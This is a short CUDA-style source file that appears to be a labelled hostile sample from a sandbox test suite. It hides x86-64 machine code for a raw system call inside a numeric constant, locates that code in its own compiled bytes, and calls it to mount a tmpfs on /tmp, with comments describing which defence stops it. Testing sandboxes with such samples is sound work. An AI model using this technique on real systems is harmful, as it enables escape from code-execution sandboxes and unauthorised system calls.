// Trick: a file system, by a system call smuggled in as a constant
// Status: unsafe
// Machine: x86_64
// The second wall alone can stop this one. x86-64 only.

// Eight bytes of machine code (mov eax, NUMBER; syscall; ret) as a constant inside of an instruction: no symbol, no
// assembly, no data that would have to be executable.
#define CODE(number) ((0xc3050full << 40) | ((unsigned long long)(number) << 8) | 0xb8)
typedef long (*Call)(long, long, long, long, long, long);

template <int Number> __attribute__((noinline)) __device__ void carry(volatile unsigned long long* to) {
    *to = CODE(Number);
}

template <int Number> __device__ Call system_call() {
    const unsigned char* at = (const unsigned char*)&carry<Number>;
    unsigned long long found;
    do {
        found = 0;
        for (int i = 0; i < 8; ++i) found |= (unsigned long long)at[i] << 8 * i;
        ++at;
    } while (found != CODE(Number));
    return (Call)(at - 1);
}

extern "C" __global__ void hostile(float* out) {
    unsigned long long place;
    carry<165>(&place);
    out[1] = system_call<165>()((long)"none", (long)"/tmp", (long)"tmpfs", 0, 0, 0);
    out[threadIdx.x] = 1.0f;
}
